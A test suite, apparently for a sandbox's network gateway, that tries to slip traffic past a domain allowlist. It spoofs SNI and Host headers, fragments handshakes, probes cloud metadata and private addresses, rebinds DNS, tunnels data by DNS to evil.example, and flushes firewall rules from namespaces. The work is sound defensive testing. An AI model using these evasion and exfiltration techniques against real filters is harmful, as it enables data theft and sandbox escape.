/** Network mode filtered: everything that must not get out, tried. Each attempt is told, and no server of the world sees it. */
import { describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { worldForTests } from "./world.ts";

const world = await worldForTests();
const good = ["--allow-domain", "*.good.example"];

type Ran = Awaited<ReturnType<typeof world.sandbox>>;

const denials = (run: Ran) => run.result.enforcement_events.filter(({ hook }) => hook === "network_gateway");

/** Runs Python in the zone with helpers; what it prints comes back. */
async function attack(flags: readonly string[], script: string): Promise<Ran> {
  await world.forget();
  const helpers = `
import socket, struct, time, sys
def tcp(host, port, data=b"", wait=5):
  try:
    s = socket.create_connection((host, port), wait); s.settimeout(wait)
    for piece in (data if isinstance(data, list) else [data]): s.sendall(piece); time.sleep(0.02 if isinstance(data, list) else 0)
    got = s.recv(4096)
    return "open " + got[:40].decode("latin1") if got else "closed"
  except OSError as e: return type(e).__name__
def udp(host, port, data=b"x"):
  try:
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
    s.sendto(data, (host, port)); return "open " + s.recv(100)[:40].decode("latin1")
  except OSError as e: return type(e).__name__
def hello(name=None, extra=b"", size=0):
  sni = b"" if name is None else struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name.encode()
  pad = struct.pack("!HH", 21, size) + bytes(size) if size else b""
  ext = sni + extra + pad
  body = b"\\x03\\x03" + bytes(32) + b"\\x00" + struct.pack("!H", 2) + b"\\x13\\x01" + b"\\x01\\x00" + struct.pack("!H", len(ext) & 0xffff) + ext
  message = b"\\x01" + struct.pack("!I", len(body))[1:] + body
  return message
def record(message, size=16384):
  return b"".join(b"\\x16\\x03\\x01" + struct.pack("!H", len(message[i:i+size])) + message[i:i+size] for i in range(0, len(message), size))
`;
  return world.sandbox(flags, ["python3", "-c", helpers + script]);
}

/** No server of the world was reached but by what the test allows. */
async function nobodyCame(allowed: RegExp = /^$/): Promise<void> {
  const { seen } = await world.seen();
  expect(seen.filter((line) => !allowed.test(line))).toEqual([]);
}

describe("names", () => {
  test("a server name that is not allowed, at an address that an allowed name led to", async () => {
    const run = await attack(
      good,
      `
socket.getaddrinfo("cdn.good.example", 443)
print(tcp("203.0.113.20", 443, record(hello("cdn.evil.example"))))
print(tcp("203.0.113.20", 80, b"GET / HTTP/1.1\\r\\nHost: cdn.evil.example\\r\\n\\r\\n"))
print(tcp("203.0.113.20", 80, b"\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: cdn.evil.example\\r\\n\\r\\n"))
print(tcp("203.0.113.20", 80, b"GET http://cdn.evil.example/ HTTP/1.1\\r\\nHost: cdn.good.example\\r\\n\\r\\n"))
print(tcp("203.0.113.20", 80, b"GET / HTTP/1.1\\r\\nHost: cdn.good.example\\r\\nHost: cdn.evil.example\\r\\n\\r\\n"))
print(tcp("203.0.113.20", 80, b"GET / HTTP/1.1\\r\\nHost: cdn.good.example\\r\\n\\r\\n")[:15])`,
    );
    expect(run.result.stdout?.trim().split("\n")).toEqual([
      ...Array(5).fill("ConnectionResetError"),
      "open HTTP/1.1 2",
    ]);
    expect(denials(run).map(({ why }) => why)).toEqual([
      "SNI names cdn.evil.example, which no allowed domain has",
      "Host names cdn.evil.example, which no allowed domain has",
      "Host names cdn.evil.example, which no allowed domain has",
      "the HTTP request names one host in its target and another in Host",
      "the HTTP request names two hosts",
    ]);
    await nobodyCame(/cdn\.good\.example$/);
  });

  test("an allowed server name at somebody else's address goes to where the name leads", async () => {
    const run = await attack(
      good,
      `
print(tcp("203.0.113.66", 80, b"GET / HTTP/1.1\\r\\nHost: www.good.example\\r\\nConnection: close\\r\\n\\r\\n")[:15])`,
    );
    expect(run.result.stdout).toBe("open HTTP/1.1 2\n");
    const allowed = run.result.events.find((event) => event["event.name"] === "rauha.network.egress.allowed");
    expect(allowed).toMatchObject({ "network.name": "www.good.example", "network.address": "203.0.113.10" });
  });

  test("the raw address of a denied name", async () => {
    const run = await attack(
      good,
      `
for host in ("203.0.113.66", "2001:db8::66"):
  print(tcp(host, 7, b"data\\n"), tcp(host, 443, record(hello("evil.example"))), tcp(host, 80, b"GET / HTTP/1.0\\r\\n\\r\\n"), tcp(host, 443, record(hello())))`,
    );
    expect(run.result.stdout).toBe(`${Array(4).fill("ConnectionResetError").join(" ")}\n`.repeat(2));
    expect(denials(run)).toHaveLength(8);
    expect(denials(run).map(({ object }) => object)).toContain("evil.example ([2001:db8::66]:443)");
    await nobodyCame();
  });

  test("a denied domain below an allowed one", async () => {
    writeFileSync(
      `${world.folder}/p.toml`,
      'extends = "task"\n[network]\nmode = "filtered"\nallowed_domains = ["*.good.example"]\ndenied_domains = ["cdn.good.example"]\n',
    );
    const run = await attack(
      ["--policy", `${world.folder}/p.toml`],
      `
try: socket.getaddrinfo("cdn.good.example", 80)
except OSError as e: print(e.args[1])
socket.getaddrinfo("www.good.example", 80)
print(tcp("203.0.113.10", 80, b"GET / HTTP/1.1\\r\\nHost: cdn.good.example\\r\\n\\r\\n"))`,
    );
    expect(run.result.stdout).toBe("Name or service not known\nConnectionResetError\n");
    expect(denials(run).map((event) => event.policy_key)).toEqual(
      Array(denials(run).length).fill("network.denied_domains"),
    );
    await nobodyCame();
  });
});

describe("what is said first", () => {
  test("a server name in fragments: over packets, and over records", async () => {
    const run = await attack(
      good,
      `
socket.getaddrinfo("cdn.good.example", 443)
bad = record(hello("cdn.evil.example"))
print(tcp("203.0.113.20", 443, [bad[i:i+7] for i in range(0, len(bad), 7)]))
small = record(hello("cdn.evil.example"), 5)
print(tcp("203.0.113.20", 443, [small[i:i+11] for i in range(0, len(small), 11)]))
req = b"GET / HTTP/1.1\\r\\nHost: cdn.evil.example\\r\\n\\r\\n"
print(tcp("203.0.113.20", 80, [req[i:i+3] for i in range(0, len(req), 3)]))
ok = b"GET / HTTP/1.1\\r\\nHost: cdn.good.example\\r\\nConnection: close\\r\\n\\r\\n"
print(tcp("203.0.113.20", 80, [ok[i:i+9] for i in range(0, len(ok), 9)])[:15])`,
    );
    expect(run.result.stdout?.trim().split("\n")).toEqual([
      ...Array(3).fill("ConnectionResetError"),
      "open HTTP/1.1 2",
    ]);
    expect(denials(run)).toHaveLength(3);
    await nobodyCame(/cdn\.good\.example$/);
  });

  test("a ClientHello of 10 MB", async () => {
    const run = await attack(
      good,
      `
socket.getaddrinfo("www.good.example", 443)
message = b"\\x01" + struct.pack("!I", 10_000_000)[1:] + b"\\x03\\x03" + bytes(10_000_000)
print(tcp("203.0.113.10", 443, record(message)))`,
    );
    expect(run.result.stdout).toMatch(/^(ConnectionResetError|BrokenPipeError)\n$/);
    expect(denials(run)[0]?.why).toBe("the client has not named its host within 16384 bytes");
  });

  test("no server name, an encrypted one, a broken one, HTTP/2 in the clear, noise at port 443", async () => {
    const run = await attack(
      good,
      `
socket.getaddrinfo("www.good.example", 443)
print(tcp("203.0.113.10", 443, record(hello())))
print(tcp("203.0.113.10", 443, record(hello("www.good.example", struct.pack("!HH", 0xfe0d, 4) + bytes(4)))))
print(tcp("203.0.113.10", 443, record(hello("www.good.example\\0.evil.example"))))
print(tcp("203.0.113.10", 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"))
print(tcp("203.0.113.10", 443, b"\\x00\\x01\\x02 noise"))
print(tcp("203.0.113.10", 80, b"GET / HTTP/1.1\\r\\nHost: 203.0.113.10\\r\\n\\r\\n"))`,
    );
    expect(run.result.stdout).toBe("ConnectionResetError\n".repeat(6));
    expect(denials(run).map(({ why }) => why)).toEqual([
      "TLS without a server name: nothing says that it goes to an allowed domain",
      "the ClientHello is encrypted (ECH): the server's name can't be read",
      "the ClientHello is malformed: the server name is no host name",
      "the HTTP request is HTTP/2 without TLS, whose host can't be read here",
      "what is spoken at port 443 is neither TLS nor HTTP",
      "HTTP with an address as its Host: nothing says that it goes to an allowed domain",
    ]);
  });
});

describe("addresses", () => {
  test("the host's loopback, cloud metadata, private networks", async () => {
    const run = await attack(
      good,
      `
for host in ("169.254.169.254", "10.0.0.1", "192.168.7.7", "100.64.0.1", "fd12::1", "::ffff:10.0.0.1"):
  print(host, tcp(host, 80, b"GET / HTTP/1.1\\r\\nHost: www.good.example\\r\\n\\r\\n"))
print(tcp("127.0.0.1", 80), tcp("::1", 80), tcp("127.0.0.2", 443))`,
    );
    const lines = run.result.stdout?.trim().split("\n") ?? [];
    expect(lines.slice(0, 6).map((line) => line.split(" ")[1])).toEqual(Array(6).fill("ConnectionResetError"));
    // These are the zone's own, where nobody listens.
    expect(lines[6]).toBe("ConnectionRefusedError ConnectionRefusedError ConnectionRefusedError");
    expect(denials(run).map(({ why }) => why)).toEqual([
      "169.254.169.254 is link-local (cloud metadata), and not listed",
      "10.0.0.1 is private, and not listed",
      "192.168.7.7 is private, and not listed",
      "100.64.0.1 is carrier-grade NAT, and not listed",
      "fd12::1 is unique local, and not listed",
      "10.0.0.1 is private, and not listed",
    ]);
    await nobodyCame();
  });

  test("allowed names that lead inside: rebinding", async () => {
    const run = await attack(
      good,
      `
for name in ("loop", "meta", "private", "mapped"):
  try: print(name, socket.getaddrinfo(name + ".good.example", 80))
  except OSError as e: print(name, e.args[1])
print(tcp("203.0.113.66", 80, b"GET / HTTP/1.1\\r\\nHost: meta.good.example\\r\\n\\r\\n"))`,
    );
    const lines = run.result.stdout?.trim().split("\n") ?? [];
    expect(lines.slice(0, 4)).toEqual(
      ["loop", "meta", "private", "mapped"].map((name) => `${name} Name or service not known`),
    );
    expect(lines[4]).toBe("ConnectionResetError");
    expect(denials(run).map(({ why }) => why)).toContain(
      "the name resolves to 169.254.169.254, which is link-local (cloud metadata) and not listed",
    );
    for (const event of denials(run)) expect(event.policy_key).toBe("network.allowed_egress");
    await nobodyCame();
  });
});

describe("other ways", () => {
  test("UDP but DNS, by IPv4 and IPv6", async () => {
    const run = await attack(
      [...good, "--allow-egress", "203.0.113.10:9999"],
      `
print(udp("203.0.113.10", 9999), udp("2001:db8::10", 9999), udp("203.0.113.10", 443))
time.sleep(0.2)`,
    );
    const told = denials(run).map(({ object, action }) => `${action} ${object}`);
    expect({ stdout: run.result.stdout, told, trust: run.result.enforcement.trust_level }).toEqual({
      stdout: "PermissionError PermissionError PermissionError\n",
      told: ["send 203.0.113.10:9999", "send [2001:db8::10]:9999", "send 203.0.113.10:443"],
      trust: "complete",
    });
    await nobodyCame();
  });

  test("tunnelling by DNS: names, types, and servers of the attacker's", async () => {
    const run = await attack(
      good,
      `
def query(name, kind, server="127.0.0.1", tail=b""):
  q = b"\\x12\\x34\\x01\\x00" + struct.pack("!HHHH", 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
  s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q + tail, (server, 53))
  r = s.recv(2000); return (r[3] & 15, struct.unpack("!H", r[6:8])[0])
print(query("c2VjcmV0.evil.example", 16), query("www.good.example", 16), query("www.good.example", 255), query("www.good.example", 1, tail=b"secret" * 20))
print(query("c2VjcmV0.evil.example", 1, "203.0.113.66"), query("www.good.example", 1, "203.0.113.66"), query("www.good.example", 28, "2001:db8::66"))
s = socket.create_connection(("203.0.113.66", 53)); s.sendall(struct.pack("!H", 400) + b"x" * 400); print(s.recv(100)[5] & 15)`,
    );
    expect(run.result.stdout).toBe("(3, 0) (0, 0) (4, 0) (0, 1)\n(3, 0) (0, 1) (0, 1)\n4\n");
    const { asked } = await world.seen();
    expect(asked.filter((line) => !/^www\.good\.example (1|28)$/.test(line))).toEqual([]);
    await nobodyCame();
  });

  test("the gateway's own port, and the zone's own address", async () => {
    const run = await attack(
      good,
      `
print(tcp("127.0.0.1", 53, b"GET / HTTP/1.1\\r\\nHost: www.good.example\\r\\n\\r\\n"))
print(tcp("192.0.0.8", 80), tcp("192.0.0.8", 53))`,
    );
    expect(run.result.stdout).toBe("closed\nConnectionRefusedError ConnectionRefusedError\n");
    await nobodyCame();
  });
});

describe("the rules of the zone's network", () => {
  test("a policy with CAP_NET_ADMIN is refused", async () => {
    writeFileSync(
      `${world.folder}/admin.toml`,
      'extends = "task"\n[capabilities]\nallowed = ["CAP_NET_ADMIN", "CAP_CHOWN"]\n[network]\nmode = "filtered"\n',
    );
    const run = await world.sandbox(["--policy", `${world.folder}/admin.toml`], ["true"]);
    expect(run.exitCode).toBe(125);
    expect(run.result.error).toMatchObject({ code: "unenforceable" });
    expect(run.result.error?.message).toContain("CAP_NET_ADMIN would let the task change the rules");
  });

  test("every other capability that a policy may grant, and new namespaces besides, changes none of them", async () => {
    const all = [
      "CHOWN",
      "DAC_OVERRIDE",
      "FOWNER",
      "SETUID",
      "SETGID",
      "SETPCAP",
      "NET_BIND_SERVICE",
      "NET_RAW",
      "SYS_ADMIN",
      "SYS_PTRACE",
      "SYS_CHROOT",
      "SETFCAP",
      "MKNOD",
      "NET_BROADCAST",
      "IPC_LOCK",
    ];
    const allowed = all.map((name) => `"CAP_${name}"`).join(", ");
    const calls = ["unshare", "setns", "clone", "clone3", "mount", "bpf", "ptrace", "socket"]
      .map((name) => `"${name}"`)
      .join(", ");
    writeFileSync(
      `${world.folder}/all.toml`,
      `extends = "task"\n[capabilities]\nallowed = [${allowed}]\n[syscalls]\nallow = [${calls}]\n[network]\nmode = "filtered"\nallowed_domains = ["*.good.example"]\n`,
    );
    await world.forget();
    const script = `
nft flush ruleset 2>&1 | head -1
ip route add 10.0.0.0/8 dev lo 2>&1 | head -1
unshare -U nft flush ruleset 2>&1 | head -1
unshare -Ur nft list ruleset 2>&1 | head -1
nsenter --net=/proc/1/ns/net nft flush ruleset 2>&1 | head -1
unshare -Urn curl -sS --max-time 3 http://203.0.113.66/ 2>&1 | head -1
curl -sS --max-time 3 http://203.0.113.66/ 2>&1 | head -1
curl -sS http://www.good.example/`;
    const run = await world.sandbox(["--policy", `${world.folder}/all.toml`, "--user", "0"], ["bash", "-c", script], {
      env: { PATH: "/usr/sbin:/usr/bin:/sbin:/bin" },
    });
    const lines = run.result.stdout?.trim().split("\n") ?? [];
    expect(lines.at(-1)).toBe("hello from www.good.example");
    expect(run.result.stdout).not.toContain("table");
    expect(
      lines.filter((line) => /Operation not permitted|Permission denied|unable|cannot open/i.test(line)).length,
    ).toBeGreaterThan(2);
    await nobodyCame(/www\.good\.example$/);
  });
});
